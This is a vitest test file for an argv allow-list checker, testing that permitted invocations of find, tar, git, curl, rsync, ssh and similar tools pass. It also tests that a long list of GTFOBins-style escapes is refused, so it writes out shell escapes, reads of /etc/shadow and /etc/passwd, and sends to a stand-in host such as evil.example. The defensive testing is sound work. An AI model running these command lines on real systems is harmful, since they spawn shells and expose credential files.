import { expect, it } from 'vitest';
import type { JsonObject } from '../../codec/index.ts';
import { isDenial } from '../../denial/index.ts';
import { checkConstraint, parseConstraint } from './index.ts';

/**
 * Programs that people grant, as one would write their grammar, and known ways to make a shell, a reader or a writer of
 * each (https://gtfobins.github.io): whatever the grammar does not name is refused.
 */
const beneath = (root: string): JsonObject => ({ constraint_type: 'path_containment', root });
const word: JsonObject = { constraint_type: 'string_pattern', pattern: '*' };

const GRAMMARS: Readonly<Record<string, JsonObject>> = {
  find: {
    positionals: [beneath('/srv')],
    flags: { '-name': { value: 'string' }, '-type': { value: 'string' } },
    interleaved: true,
  },
  tar: { flags: { '-x': {}, '-f': { value: 'string', constraint: beneath('/srv') } } },
  git: { command: ['log'], flags: { '--oneline': {}, '-n': { value: 'integer' } } },
  grep: { flags: { '-r': {}, '-n': {} }, positionals: [word], rest: beneath('/srv') },
  curl: {
    flags: { '--fail': {} },
    positionals: [{ constraint_type: 'url_containment', scheme: 'https', host: 'example.org' }],
  },
  terraform: {
    command: ['apply'],
    flags: { '-input': { value: 'string' } },
    positionals: [beneath('/srv/plans')],
  },
  rsync: { flags: { '-a': {} }, positionals: [beneath('/srv/a'), beneath('/srv/b')] },
  sort: { flags: { '-n': {} }, rest: beneath('/srv') },
  zip: { positionals: [beneath('/srv/out')], rest: beneath('/srv') },
  wc: { flags: { '-l': {} }, rest: beneath('/srv') },
  ssh: {
    positionals: [
      { constraint_type: 'exact', value: 'host.example' },
      { constraint_type: 'exact', value: 'uptime' },
    ],
  },
};

const GOOD: readonly [string, ...string[]][] = [
  ['find', '/srv/a', '-name', '*.csv'],
  ['tar', '-x', '-f', '/srv/a.tar'],
  ['git', 'log', '--oneline', '-n', '5'],
  ['grep', '-r', 'needle', '/srv/a'],
  ['curl', '--fail', 'https://example.org/a'],
  ['rsync', '-a', '/srv/a/x', '/srv/b/x'],
  ['sort', '-n', '/srv/a'],
  ['zip', '/srv/out/a.zip', '/srv/a'],
  ['ssh', 'host.example', 'uptime'],
  ['wc', '-l', '/srv/a'],
];

const BAD: readonly (readonly [string, ...string[]])[] = [
  ['find', '/srv', '-exec', '/bin/sh', ';'],
  ['find', '/srv', '-execdir', 'sh', '{}', '+'],
  ['find', '/srv', '-fprintf', '/srv/x', 'x'],
  ['find', '/srv', '-delete'],
  ['find', '/srv/../etc'],
  ['find', '-files0-from', '/etc/passwd'],
  ['find', '/srv', '-name', '-exec'],
  ['tar', '-x', '-f', '/srv/a.tar', '--checkpoint=1', '--checkpoint-action=exec=sh'],
  ['tar', '-xf/srv/a.tar'],
  ['tar', '-x', '-f', '/srv/a.tar', '-I', 'sh'],
  ['tar', '-x', '-f', '/srv/a.tar', '--to-command=sh'],
  ['tar', '-x', '-f', '/srv/a.tar', '--use-compress-prog=sh'],
  ['tar', '-x', '-f', '/srv/a.tar', '-C', '/'],
  ['git', 'log', '--output=/srv/x'],
  ['git', '-c', 'core.pager=sh', 'log'],
  ['git', 'log', '--ext-diff'],
  ['git', 'log', '-n5'],
  ['git', 'log', '--onelin'],
  ['git', 'log', '--oneline', '--oneline'],
  ['git', 'push'],
  ['grep', '-f', '/etc/shadow', 'x'],
  ['grep', '-rf/etc/shadow', 'x'],
  ['grep', '-r', 'x', '/etc'],
  ['curl', 'file:///etc/passwd'],
  ['curl', 'https://example.org/a', '-o', '/srv/x'],
  ['curl', '-K', '/srv/config'],
  ['curl', '-d', '@/etc/passwd', 'https://example.org/'],
  ['curl', '@/etc/passwd'],
  ['curl', 'https://example.org@evil.example/'],
  ['curl', 'https://example.org/', 'https://evil.example/'],
  ['terraform', 'apply', '-chdir=/', '/srv/plans/a'],
  ['terraform', 'apply', '-auto-approve'],
  ['terraform', 'destroy'],
  ['terraform', 'apply', '/srv/plans/../../etc/x'],
  ['rsync', '-a', '-e', 'sh -c x', '/srv/a', '/srv/b'],
  ['rsync', '-a', '--rsh=sh', '/srv/a', '/srv/b'],
  ['rsync', '-a', '/srv/a', 'evil.example:/x'],
  ['sort', '-o', '/srv/x', '/srv/a'],
  ['sort', '--compress-program=sh', '/srv/a'],
  ['sort', '--files0-from=/etc/passwd'],
  ['zip', '/srv/out/a.zip', '/srv/a', '-T', '-TT', 'sh #'],
  ['ssh', '-o', 'ProxyCommand=sh', 'host.example', 'uptime'],
  ['ssh', '-oProxyCommand=sh', 'host.example', 'uptime'],
  ['ssh', 'host.example', 'uptime; sh'],
  ['ssh', 'host.example', 'uptime', '&&', 'sh'],
  ...['-ok', '-okdir', '-fls', '-fprint', '-fprint0', '-newer', '-follow', '-samefile'].map(
    (flag) => ['find', '/srv', flag, '/etc/passwd'] as const,
  ),
  ...[
    '-c',
    '-C',
    '-p',
    '--paginate',
    '--git-dir=/srv/x',
    '--exec-path=/srv/x',
    '--no-index',
    '-O/etc/passwd',
  ].map((flag) => ['git', flag, 'log'] as const),
  ...['--no-index', '--textconv', '--upload-pack=sh', 'ext::sh -c id', '-O/etc/passwd', '--oneline=x'].map(
    (flag) => ['git', 'log', flag] as const,
  ),
  ...['--file=/etc/shadow', '--exclude-from=/etc/shadow', '-P', '-d', '--include=*'].map(
    (flag) => ['grep', flag, 'x', '/srv/a'] as const,
  ),
  ...['-O', '-T/etc/passwd', '--config=/srv/x', '-x', '--unix-socket=/srv/s', '--next', '--trace=/srv/x'].map(
    (flag) => ['curl', flag, 'https://example.org/a'] as const,
  ),
  ...[
    '-D/srv/x',
    '-c/srv/x',
    '-H@/etc/passwd',
    '-F',
    '--resolve=example.org:443:127.0.0.1',
    '-w@/etc/passwd',
  ].map((flag) => ['curl', flag, 'https://example.org/a'] as const),
  ...['--rsync-path=sh', '--files-from=/etc/passwd', '--log-file=/srv/x', '--daemon', '-M--x', '-aesh'].map(
    (flag) => ['rsync', flag, '/srv/a', '/srv/b'] as const,
  ),
  ...['-T/srv', '--random-source=/etc/shadow', '-o/srv/x', '-nm', '--output=/srv/x'].map(
    (flag) => ['sort', flag, '/srv/a'] as const,
  ),
  ...['-TT', '--unzip-command=sh', '-m', '-i@/etc/passwd', '-@', '-O/srv/x'].map(
    (flag) => ['zip', '/srv/out/a.zip', '/srv/a', flag] as const,
  ),
  ...['-F/srv/x', '-E/srv/x', '-D1', '-R1:x:1', '-W', '-J', '-I/srv/x.so', '-oLocalCommand=sh', '-t'].map(
    (flag) => ['ssh', flag, 'host.example', 'uptime'] as const,
  ),
  ['wc', '--files0-from=/etc/shadow'],
  ['wc', '-l', '--files0-from', '/etc/shadow'],
  ['wc', '-l', '/etc/shadow'],
  ['wc', '-l', ''],
];

function accepts([program, ...argv]: readonly [string, ...string[]]): boolean {
  const constraint = parseConstraint({ constraint_type: 'argv', ...GRAMMARS[program] });
  if (isDenial(constraint)) throw new Error(constraint.detail);
  return checkConstraint(constraint, argv);
}

it.each(GOOD.map((line) => [line] as const))('takes what it is for: %j', (line) => {
  expect(accepts(line)).toBe(true);
});

it.each(BAD.map((line) => [line] as const))('refuses a way out: %j', (line) => {
  expect(accepts(line)).toBe(false);
});
